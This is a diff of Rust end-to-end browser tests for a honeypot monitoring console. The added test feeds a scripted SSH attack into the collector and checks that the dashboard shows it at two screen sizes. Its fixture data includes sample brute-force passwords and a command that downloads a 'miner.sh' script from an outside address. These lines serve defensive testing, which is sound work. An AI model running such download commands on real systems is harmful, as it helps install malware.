@@ -91,13 +91,16 @@ async fn dashboard_shows_the_fleet_then_a_live_two_decky_traversal() {
     b.find(Locator::Id("password")).await.unwrap().send_keys("pw-viewer").await.unwrap();
     b.find(Locator::Id("login-button")).await.unwrap().click().await.unwrap();
 
-    // First screen: the fleet, with addresses, services and the mutation.
+    // The fleet, with addresses, services and the mutation.
+    b.goto(&format!("{url}#fleet")).await.unwrap();
     let web = wait_text(&b, "#decky-web-01", |t| t.contains("127.0.0.21")).await;
-    assert!(web.contains("ssh, http"), "{web}");
+    // Nothing has opened the deckies' listeners: not shown as live.
+    assert!(web.contains("ssh:22 pending") && web.contains("http:80 pending"), "{web}");
     assert!(web.contains("creation"), "the mutation history is shown: {web}");
     // Rows render as the fleet answer arrives: wait for this one too.
     wait_text(&b, "#decky-ws-finance", |t| t.contains("127.0.0.22")).await;
-    assert!(text_of(&b, "#recent-empty").await.contains("No attackers yet"));
+    b.goto(&format!("{url}#overview")).await.unwrap();
+    wait_text(&b, "#recent-empty", |t| t.contains("No attackers yet")).await;
 
     // The Attackers page, live: wait until its stream is subscribed.
     b.goto(&format!("{url}#attackers")).await.unwrap();
@@ -129,7 +132,7 @@ async fn dashboard_shows_the_fleet_then_a_live_two_decky_traversal() {
     assert!(text_of(&b, "#attacker-timeline").await.contains("GET /admin"));
 
     // Back on the first screen the attacker is there too.
-    b.goto(&format!("{url}#fleet")).await.unwrap();
+    b.goto(&format!("{url}#overview")).await.unwrap();
     wait_text(&b, r#"#recent-attackers tr[data-ip="127.0.0.1"]"#, |t| t.contains("web-01 → ws-finance")).await;
 
     // Two attackers share a HASSH: the clusterer links them and the
@@ -144,7 +147,7 @@ async fn dashboard_shows_the_fleet_then_a_live_two_decky_traversal() {
         .await
         .unwrap();
     }
-    b.goto(&format!("{url}#attackers")).await.unwrap();
+    b.goto(&format!("{url}#identities")).await.unwrap();
     let identity = wait_text(&b, "#identities tbody tr", |t| t.contains("127.0.0.2")).await;
     assert!(identity.contains("127.0.0.1") && identity.contains("hassh:ec7378c1"), "{identity}");
 
@@ -367,5 +370,199 @@ async fn a_recorded_session_replays_on_the_attacker_page_and_only_admins_get_art
     b.goto(&format!("{url}#attacker/{ip}")).await.unwrap();
     wait_text(&b, &format!(r#"#attacker-artifacts tr[data-sha256="{sha}"] button.download"#), |t| t == "Download")
         .await;
+    b.close().await.unwrap();
+}
+
+/// Issue 27, end to end at a laptop's and a desktop's size: a scripted
+/// attack arrives the deckies' way (lines on the collector's socket: an SSH
+/// session with three passwords, commands, a download and a recording, then
+/// an HTTP request to a second decky); an admin signs in, the Overview is
+/// populated, the attacker page's every panel fits the viewport, the
+/// timeline folds the session, and the session replays.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_console_tells_the_attack_story_at_1280_and_1920() {
+    use base64::Engine as _;
+    use sha2::Digest as _;
+    use std::io::Write as _;
+    let dir = tempfile::tempdir().unwrap();
+    let home = dir.path();
+    let bus = Daemon::start(home, &[]);
+    let pool = decnet::store::open(&home.join("decnet.db")).await.unwrap();
+    let hash = decnet::auth::hash_password("pw-ada").unwrap();
+    decnet::store::users::create(&pool, "ada", &hash, decnet::auth::Role::Admin).await.unwrap();
+    let sid = "c0ffee00c0ffee00";
+    let mut rec = decnet_decky::recording::Recording::new("/bin/bash", decnet_decky::recording::DEFAULT_LIMIT);
+    rec.terminal("xterm-256color", 100, 20);
+    rec.output(b"root@web-01:~# ");
+    rec.input(b"uname -a\r");
+    rec.output(b"uname -a\r\nLinux web-01 console-replayed-kernel\r\nroot@web-01:~# ");
+    let written = rec.finish(&home.join("recordings"), "web-01", sid).unwrap();
+    let payload = b"#!/bin/sh\necho miner\n".to_vec();
+    let sha: String = sha2::Sha256::digest(&payload).iter().map(|b| format!("{b:02x}")).collect();
+    std::fs::create_dir_all(home.join("artifacts")).unwrap();
+    std::fs::write(home.join("artifacts").join(&sha), &payload).unwrap();
+    // A sniffer-style fingerprint with long values: the panel the issue
+    // found cut off even at 2300 px.
+    sqlx::query(
+        "INSERT INTO fingerprints (attacker_ip, kind, port, hash, details, source, first_seen, last_seen)
+         VALUES ('127.0.0.31', 'tls_client_hello', 443, ?, ?, 'sniffer', 1, 1)",
+    )
+    .bind("771,4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513,29-23-24,0")
+    .bind(serde_json::json!({"ja4": "t13d1516h2_8daaf6152771_02713d6af862", "sni": "a-very-long-server-name-the-attacker-asked-for.example.internal"}).to_string())
+    .execute(&pool)
+    .await
+    .unwrap();
+
+    let _collector = spawn(home, &bus.socket, &["collector", "--no-udp", "--listen", "127.0.0.1:0", "--no-docker"]);
+    let port = free_port();
+    let _api = spawn(home, &bus.socket, &["api", "--listen", &format!("127.0.0.1:{port}")]);
+    let _profiler = spawn(home, &bus.socket, &["profiler", "--poll-ms", "100"]);
+    let ip = "127.0.0.31";
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let (bytes, size, path) =
+        (written.bytes.to_string(), payload.len().to_string(), written.path.display().to_string());
+    let passwords = ["123456", "hunter2", "Winter2024!"];
+    let mut lines = vec![support::decky_line("web-01", ip, "ssh", "connect", &[("sid", sid)])];
+    for pw in passwords {
+        lines.push(support::decky_line(
+            "web-01",
+            ip,
+            "ssh",
+            "login_attempt",
+            &[("sid", sid), ("username", "root"), ("secret_b64", &b64(pw)), ("auth_method", "password")],
+        ));
+    }
+    for cmd in ["uname -a", "wget http://198.51.100.7/miner.sh", "uname -a"] {
+        lines.push(support::decky_line("web-01", ip, "ssh", "command", &[("sid", sid), ("command", cmd)]));
+    }
+    lines.push(support::decky_line(
+        "web-01",
+        ip,
+        "ssh",
+        "artifact",
+        &[
+            ("sid", sid),
+            ("source", "url"),
+            ("url", "http://198.51.100.7/miner.sh"),
+            ("path", "/tmp/miner.sh"),
+            ("sha256", &sha),
+            ("size", &size),
+            ("mime", "text/x-shellscript"),
+        ],
+    ));
+    lines.push(support::decky_line(
+        "web-01",
+        ip,
+        "ssh",
+        "disconnect",
+        &[("sid", sid), ("reason", "client closed"), ("duration_s", "4.000")],
+    ));
+    lines.push(support::decky_line(
+        "web-01",
+        ip,
+        "ssh",
+        "session_recorded",
+        &[
+            ("sid", sid),
+            ("service", "ssh"),
+            ("duration_s", "4.000"),
+            ("username", "root"),
+            ("commands", r#"["uname -a","wget http://198.51.100.7/miner.sh","uname -a"]"#),
+            ("recording", &path),
+            ("recording_bytes", &bytes),
+            ("recording_sha256", &written.sha256),
+        ],
+    ));
+    lines.push(support::decky_line("files-02", ip, "http", "request", &[("method", "GET"), ("path", "/backup.zip")]));
+    let mut unix = None;
+    assert!(support::wait_until(20.0, || {
+        unix = std::os::unix::net::UnixStream::connect(home.join("collector.sock")).ok();
+        unix.is_some()
+    }));
+    let mut unix = unix.unwrap();
+    for line in &lines {
+        unix.write_all(line).unwrap();
+    }
+    let url = format!("http://127.0.0.1:{port}/");
+    let http = reqwest::Client::new();
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while http.get(format!("{url}api/v1/health")).send().await.is_err() {
+        assert!(Instant::now() < deadline, "the API never answered");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+
+    let shots = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
+    let (_driver, b) = browser(home).await;
+    for (w, h) in [(1280u32, 800u32), (1920, 1080)] {
+        // The viewport (not the window) is w x h: add what the window's
+        // own frame takes, measured.
+        b.set_window_size(w, h).await.unwrap();
+        let frame = b.execute("return [outerWidth - innerWidth, outerHeight - innerHeight]", vec![]).await.unwrap();
+        let (fw, fh): (u32, u32) = serde_json::from_value(frame).unwrap();
+        b.set_window_size(w + fw, h + fh).await.unwrap();
+        sign_in(&b, &url, "ada", "pw-ada").await;
+        // The first screen is the Overview, filled from the attack.
+        b.goto(&format!("{url}#overview")).await.unwrap();
+        let top = wait_text(&b, "#top-passwords", |t| passwords.iter().all(|p| t.contains(p))).await;
+        assert!(!top.contains('*'), "an admin sees clear text: {top}");
+        let commands = wait_text(&b, "#top-commands", |t| t.contains("uname -a")).await;
+        assert!(commands.contains("wget http://198.51.100.7/miner.sh"), "{commands}");
+        wait_text(&b, "#newest-artifacts", |t| t.contains("miner.sh")).await;
+        wait_text(&b, "#top-deckies", |t| t.contains("web-01") && t.contains("files-02")).await;
+        wait_text(&b, "#total-sessions b", |t| t == "1").await;
+        let bars = b.find_all(Locator::Css("#chart-events rect.bar")).await.unwrap();
+        assert_eq!(bars.len(), 24, "one bar per hour of the last day");
+        wait_text(&b, "#top-sources", |t| t.contains(ip)).await;
+        std::fs::write(shots.join(format!("console-overview-{w}.png")), b.screenshot().await.unwrap()).unwrap();
+
+        // The attacker page, from the Overview's top sources.
+        click_live(&b, &format!(r##"#top-sources a[href="#attacker/{ip}"]"##)).await;
+        let creds = wait_text(&b, "#attacker-credentials tbody", |t| passwords.iter().all(|p| t.contains(p))).await;
+        assert!(creds.contains("root"), "{creds}");
+        wait_text(&b, "#attacker-traversal", |t| t == "web-01 → files-02").await;
+        wait_text(&b, "#attacker-fingerprints", |t| t.contains("tls_client_hello")).await;
+        let session =
+            wait_text(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"]"#), |t| t.contains("web-01:ssh")).await;
+        assert!(session.contains("4.0 s"), "{session}");
+        let kinds = b
+            .execute("return [...document.querySelectorAll('#attacker-timeline tbody tr td:nth-child(4)')].map(td => td.textContent)", vec![])
+            .await
+            .unwrap();
+        let kinds: Vec<String> = serde_json::from_value(kinds).unwrap();
+        assert!(kinds.contains(&"session".to_string()), "{kinds:?}");
+        assert!(!kinds.iter().any(|k| k == "connect" || k == "disconnect"), "connect/disconnect folded: {kinds:?}");
+        // Every panel inside the viewport, none scrolling sideways.
+        let fit = b
+            .execute(
+                "const w = document.documentElement.clientWidth;
+                 const bad = [...document.querySelectorAll('#page-attacker section')].filter((s) => {
+                   const r = s.getBoundingClientRect();
+                   return r.width === 0 || r.left < 0 || r.right > w + 0.5 || s.scrollWidth > s.clientWidth + 1;
+                 }).map((s) => s.querySelector('h2').textContent);
+                 return [window.innerWidth, document.documentElement.scrollWidth, bad];",
+                vec![],
+            )
+            .await
+            .unwrap();
+        let (inner, scroll, bad): (u32, u32, Vec<String>) = serde_json::from_value(fit).unwrap();
+        assert_eq!(inner, w, "the viewport is {w} px wide");
+        assert!(scroll <= inner, "the page scrolls sideways at {w} px: {scroll} > {inner}");
+        assert!(bad.is_empty(), "panels outside the viewport at {w} px: {bad:?}");
+
+        std::fs::write(shots.join(format!("console-attacker-{w}.png")), b.screenshot().await.unwrap()).unwrap();
+
+        click_live(&b, &format!(r#"#attacker-sessions tr[data-sid="{sid}"] button.replay"#)).await;
+        click_live(&b, "#replay-player .ap-overlay-start").await;
+        let shown = wait_text(&b, "#replay-player", |t| t.contains("console-replayed-kernel")).await;
+        assert!(shown.contains("uname -a"), "{shown:?}");
+        std::fs::write(shots.join(format!("console-replay-{w}.png")), b.screenshot().await.unwrap()).unwrap();
+
+        // The Credentials and Sessions pages.
+        b.goto(&format!("{url}#credentials")).await.unwrap();
+        wait_text(&b, r#"#credentials tr[data-username="root"]"#, |t| t.contains("Winter2024!")).await;
+        b.goto(&format!("{url}#sessions")).await.unwrap();
+        wait_text(&b, &format!(r#"#sessions tr[data-sid="{sid}"]"#), |t| t.contains(ip)).await;
+        b.find(Locator::Id("logout")).await.unwrap().click().await.unwrap();
+    }
     b.close().await.unwrap();
 }
